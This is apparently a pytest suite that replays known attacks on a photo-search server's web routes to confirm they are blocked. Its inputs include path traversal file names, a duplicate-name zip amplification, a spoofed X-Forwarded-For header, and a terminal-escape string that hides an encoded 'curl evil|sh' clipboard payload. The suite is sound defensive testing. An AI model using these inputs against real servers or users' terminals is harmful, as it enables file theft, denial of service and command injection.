"""The attacks of issue 23 on `findme serve` itself, repeated against a real engine:
the photo routes, the REST API's key, the per-caller budget, the page's framing.

Attacks that need a foreign server (a Mastodon server, a media host) are in
tests/test_foreign_servers.py; docs/security.md lists every one and what stops it.
"""

from __future__ import annotations

import io
import signal
import subprocess
import sys
import threading
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import pytest
import redis
from PIL import Image

from findme.jobs import JobStore, new_job_id
from findme.local import photo_routes
from findme.local.engine import GUEST_AUTH
from findme.local.limits import Limits
from findme.local.runner import LocalFindMe
from findme.local.server import PARAMETERS_NOT_ALLOWED
from findme.state import keys
from tests import photo_variants as pv
from tests.cli_helpers import findme

SECRET = "s3cret"


# -- 5: the web secret covers previews and the zip too ---------------------------------------


def test_the_web_secret_covers_previews_and_the_zip(
    redis_client: redis.Redis, photo_root: Path
) -> None:
    with LocalFindMe(photo_root=photo_root, compare_workers=1, web_secret=SECRET) as local:
        base = local.api_host
        preview = f"{base}/findme/previews/event/talk/obama2.jpg?side=1600"
        wanted = {"folder": "event/talk", "photos": ["obama2.jpg"]}
        assert httpx.get(preview).status_code == 401
        assert httpx.post(f"{base}/findme/zip", json=wanted).status_code == 401
        form = {"request": '{"folder": "event/talk", "photos": ["obama2.jpg"]}'}
        assert httpx.post(f"{base}/findme/zip", data=form).status_code == 401
        with httpx.Client(base_url=base) as page:
            page.get("/findme/folders", headers={"X-Require-Whisk-Auth": SECRET})
            # The page's <img> tags and its plain form post send the cookie.
            assert page.get(preview).headers["content-type"] == "image/jpeg"
            assert page.post("/findme/zip", data=form).status_code == 200


# -- 10: the zip holds photos only, each file once, named without .. -----------------------


@pytest.fixture(scope="module")
def zip_folder(local: LocalFindMe) -> Path:
    folder = local.photo_root / "zip-attack"
    (folder / "a").mkdir(parents=True, exist_ok=True)
    (folder / "a.jpg").write_bytes((local.photo_root / "event/talk/obama2.jpg").read_bytes())
    (folder / ".env").write_text("API_KEY=do-not-serve-me\n")
    (folder / "notes.txt").write_text("private notes\n")
    return folder


def zip_request(local: LocalFindMe, photos: list[str]) -> httpx.Response:
    return httpx.post(
        f"{local.api_host}/findme/zip", json={"folder": "zip-attack", "photos": photos}
    )


@pytest.mark.parametrize("name", [".env", "notes.txt", "a/../.env", "a"])
def test_the_zip_serves_photos_only(local: LocalFindMe, zip_folder: Path, name: str) -> None:
    answer = zip_request(local, ["a.jpg", name])
    assert answer.status_code == 400
    assert answer.json()["error"] == f"no such photo: {name}"
    assert b"do-not-serve-me" not in answer.content


def test_the_zip_holds_each_file_once_by_its_real_name(
    local: LocalFindMe, zip_folder: Path
) -> None:
    spellings = ["a/../a.jpg", "./a.jpg", "a.jpg", "a//../a.jpg"] * 2500  # the attack's 10,000
    answer = zip_request(local, spellings)
    assert answer.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(answer.content))
    assert archive.namelist() == ["a.jpg"]
    assert archive.read("a.jpg") == (zip_folder / "a.jpg").read_bytes()
    # One photo's bytes and the zip's own headers: not 10,000 copies (5.96 GB before).
    assert len(answer.content) < (zip_folder / "a.jpg").stat().st_size + 1000


# -- 11: previews decode a bounded few at once ---------------------------------------------

AT_ONCE = 2  # FINDME_PREVIEW_DECODES's default


def test_previews_decode_a_bounded_few_at_once(
    local: LocalFindMe, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = local.photo_root / "cmyk"
    folder.mkdir(exist_ok=True)
    big = Image.new("CMYK", (3000, 3000), (10, 20, 30, 0))
    (folder / "big.tiff").write_bytes(pv.encoded(big, "TIFF", compression="tiff_lzw"))
    decoding, most = 0, 0
    lock = threading.Lock()
    one_more = threading.Event()  # set when more decodes run than the bound allows
    real = photo_routes.preview_jpeg

    def watched(data: bytes, side: int) -> bytes:
        nonlocal decoding, most
        with lock:
            decoding += 1
            most = max(most, decoding)
            if decoding > AT_ONCE:
                one_more.set()
        try:
            # Each decode holds its place until a decode past the bound starts, or 1 s.
            one_more.wait(1.0)
            return real(data, side)
        finally:
            with lock:
                decoding -= 1

    monkeypatch.setattr(photo_routes, "preview_jpeg", watched)
    url = f"{local.api_host}/findme/previews/cmyk/big.tiff?side=1600"
    with ThreadPoolExecutor(6) as pool:
        answers = list(pool.map(lambda _: httpx.get(url, timeout=120), range(6)))
    assert [a.status_code for a in answers] == [200] * 6
    assert 1 <= most <= AT_ONCE  # 10 at once (3.27 GB) before


# -- 9: the photo root is the engine's, never a web caller's --------------------------------


@pytest.mark.parametrize("served", [None, "photos"], ids=["without --photos", "with --photos"])
def test_a_web_caller_cannot_name_the_photo_root(
    redis_client: redis.Redis, photo_root: Path, served: str | None
) -> None:
    with LocalFindMe(photo_root=photo_root if served else None, compare_workers=1) as local:
        asked = {"folder": "etc", "photo_root": "/", "reference_path": "hostname"}
        answer = httpx.post(
            f"{local.api_host}/api/v1/web/guest/findme/register_search.json", json=asked
        )
    assert answer.status_code == 400  # before: a search of / without --photos
    assert answer.json()["error"] == PARAMETERS_NOT_ALLOWED
    records = redis_client.scan_iter(match=keys.job_key("*"), _type="hash")
    assert b"/" not in {redis_client.hget(key, "photo_root") for key in records}


# -- 13: a web secret does not leave the REST API on the published guest key ---------------


def serve(*flags: str) -> tuple[subprocess.Popen, str, str]:
    """`findme serve` on a free port: the process, its API host and the key it printed."""
    process = subprocess.Popen(
        [sys.executable, "-m", "findme", "serve", "--port", "0", *flags],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    lines = [process.stdout.readline() for _ in range(3)]
    api = next(line for line in lines if "OpenWhisk API:" in line).split()
    return process, api[2], api[4]


@pytest.mark.parametrize("flags", [("--web-secret", SECRET), ("--host", "0.0.0.0")])
def test_a_protected_server_makes_a_key_of_its_own(redis_client: redis.Redis, flags) -> None:
    process, api, key = serve(*flags)
    try:
        assert key != GUEST_AUTH
        api = api.replace("0.0.0.0", "127.0.0.1")
        activations = f"{api}/api/v1/namespaces/_/activations"
        guest = httpx.get(activations, auth=tuple(GUEST_AUTH.split(":", 1)))
        assert guest.status_code == 401  # 200 before: the guest key listed everything
        assert httpx.get(activations, auth=tuple(key.split(":", 1))).status_code == 200
    finally:
        process.send_signal(signal.SIGTERM)
        process.communicate(timeout=60)


def test_a_local_server_without_a_secret_keeps_the_guest_key(redis_client: redis.Redis) -> None:
    process, _, key = serve()
    process.send_signal(signal.SIGTERM)
    process.communicate(timeout=60)
    assert key == GUEST_AUTH  # wsk and the clients work unchanged


# -- 15: cancel_search changes data, so only on POST ------------------------------------------


def test_a_link_cannot_cancel_a_search(local: LocalFindMe, redis_client: redis.Redis) -> None:
    store = JobStore(redis_client, 3600)
    job_id = new_job_id()
    store.create(job_id, {"job_id": job_id, "source": "folder", "folder": "event"})
    action = f"{local.api_host}/api/v1/web/guest/findme/cancel_search"
    refused = httpx.get(f"{action}.http?job_id={job_id}")
    assert refused.status_code == 405
    assert refused.json()["error"] == (
        "cancel_search changes data: send it as a POST request, not GET"
    )
    assert httpx.head(f"{action}.http?job_id={job_id}").status_code == 405
    httpx.get(f"{action}.json?job_id={job_id}")  # refused the same way, whatever its status
    assert store.state(job_id) == "queued"  # before: cancelled by an <img> or a prefetch
    posted = httpx.post(f"{action}.http", json={"job_id": job_id})
    assert posted.json() == {"job_id": job_id, "state": "cancelled", "cancelled": True}


# -- 15: no other site frames the page -----------------------------------------------------


@pytest.mark.parametrize("path", ["/", "/index.html", "/findme/folders"])
def test_no_other_site_may_frame_the_page(local: LocalFindMe, path: str) -> None:
    answer = httpx.get(f"{local.api_host}{path}")
    assert answer.status_code == 200
    assert answer.headers["content-security-policy"] == "frame-ancestors 'self'"
    assert answer.headers["x-frame-options"] == "SAMEORIGIN"


# -- 15: a caller's text never reaches the operator's terminal raw ---------------------------

TITLE_AND_CLIPBOARD = "PyCon \x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07 \u202eevil"


def test_findme_event_list_and_status_show_a_callers_name_escaped(
    redis_client: redis.Redis,
) -> None:
    """An event's name comes from whoever created it (create_event is a web action)."""
    store = JobStore(redis_client, 3600)
    event_id = new_job_id()
    fields = {"job_id": event_id, "role": "event", "source": "folder", "folder": "event"}
    store.create(event_id, {**fields, "name": TITLE_AND_CLIPBOARD})
    for command in (("event", "list"), ("event", "status", event_id)):
        shown = findme(*command)
        assert shown.returncode == 0, shown.stderr
        assert not {"\x1b", "\x07", "\u202e"} & set(shown.stdout)  # sent raw before
        assert "PyCon \\x1b]0;pwned\\x07\\x1b]52;c;Y3VybCBldmlsfHNo\\x07 " in shown.stdout


# -- 15: one caller's burst does not lock the others out ------------------------------------


def test_one_callers_burst_leaves_the_others_their_share(redis_client: redis.Redis) -> None:
    """A namespace of 20 invocations a minute: a caller sending 25 gets its 10, and
    another caller still gets through (before: the burst spent the namespace's 20 and
    everyone got 429 until the minute turned)."""
    with LocalFindMe(
        photo_root=None, compare_workers=1, limits=Limits(invocations_per_minute=20)
    ) as local:
        sources = f"{local.api_host}/api/v1/web/guest/findme/sources.json"

        def calls(caller: str, count: int) -> list[httpx.Response]:
            # A proxy on this machine names its callers (uvicorn trusts 127.0.0.1's).
            return [httpx.get(sources, headers={"X-Forwarded-For": caller}) for _ in range(count)]

        burst = calls("203.0.113.7", 25)
        others = calls("198.51.100.9", 5)
    assert [a.status_code for a in others] == [200] * 5
    refused = [a for a in burst if a.status_code == 429]
    assert refused  # at most 10 a minute each: 25 never all pass, even across a minute
    assert refused[0].json()["error"] == (
        "Too many requests from your address in the last minute (count: 11, allowed: 10): "
        "others use this FindMe too; try again in a minute."
    )
